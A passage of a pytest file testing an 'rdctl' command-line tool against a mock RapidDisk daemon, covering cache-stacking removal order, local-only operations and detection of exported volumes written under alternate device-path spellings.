    with Daemon(volumes={"rd0": Volume(64)}, targets=None) as daemon:
        ran = ask(rdctl, daemon, "remove", "rd0", tty=True, stdin=b"n\n")
        assert "Not checked over REST: exports, mounts" in ran.err
        item = ask(rdctl, daemon, "show", "rd0", "--json").json["item"]
        assert item["users_seen"] == ["cache"]


def test_a_cache_below_another_one_over_rest(rdctl: Program) -> None:
    """The daemon calls the lower one dm-1; the upper one's name links them, and goes first
    (docs/wire/rapiddisk-rest.md#23-listrapiddiskvolumes)."""
    caches = {"rc-wt_vdb": Cache("rd0", "vdb"), "rc-wb_rc-wt_vdb": Cache("rd1", "dm-1")}
    with Daemon(volumes={"rd0": Volume(64), "rd1": Volume(64)}, caches=caches) as daemon:
        ran = ask(rdctl, daemon, "cache", "remove", "rc-wt_vdb", "--yes")
        assert (ran.code, "used by cache rc-wb_rc-wt_vdb" in ran.err) == (4, True)
        ran = ask(rdctl, daemon, "cache", "remove", *caches, "--yes")
        assert ran.code == 0, ran
        assert daemon.changes == [
            "removeRapidDiskCache/rc-wb_rc-wt_vdb",
            "removeRapidDiskCache/rc-wt_vdb",
        ]


@pytest.mark.parametrize(
    "words",
    [
        ("cache", "create", "rd0", "vdb", "--adopt", "--yes"),
        ("cache", "create", "rd0", "vdb", "--name", "rc-wt_x"),
        ("cache", "create", "rd0", "vdb", "--policy", "writeback", "--max-age", "9", "--yes"),
        ("create", "64", "--number", "0"),
    ],
)
def test_what_only_the_machine_itself_can_do(rdctl: Program, words: tuple[str, ...]) -> None:
    with Daemon(volumes={"rd0": Volume(64)}) as daemon:
        assert ask(rdctl, daemon, *words).code == 11
        assert daemon.changes == []


@pytest.mark.parametrize(
    "path", ["/dev/./rd0", "/dev//rd0", "/dev/mapper/../rd0", "/dev/disk/by-id/dm-name-rc-wt_vdb"]
)
def test_an_export_by_another_spelling(rdctl: Program, path: str) -> None:
    caches = {"rc-wt_vdb": Cache("rd1", "vdb")}
    volumes = {"rd0": Volume(64), "rd1": Volume(64)}
    with Daemon(volumes=volumes, caches=caches, targets=[Target("nqn.a", path)]) as daemon:
        words = ("cache", "remove", "rc-wt_vdb") if "wt" in path else ("remove", "rd0")
        assert ask(rdctl, daemon, *words, "--yes").code == 4
        assert daemon.changes == []
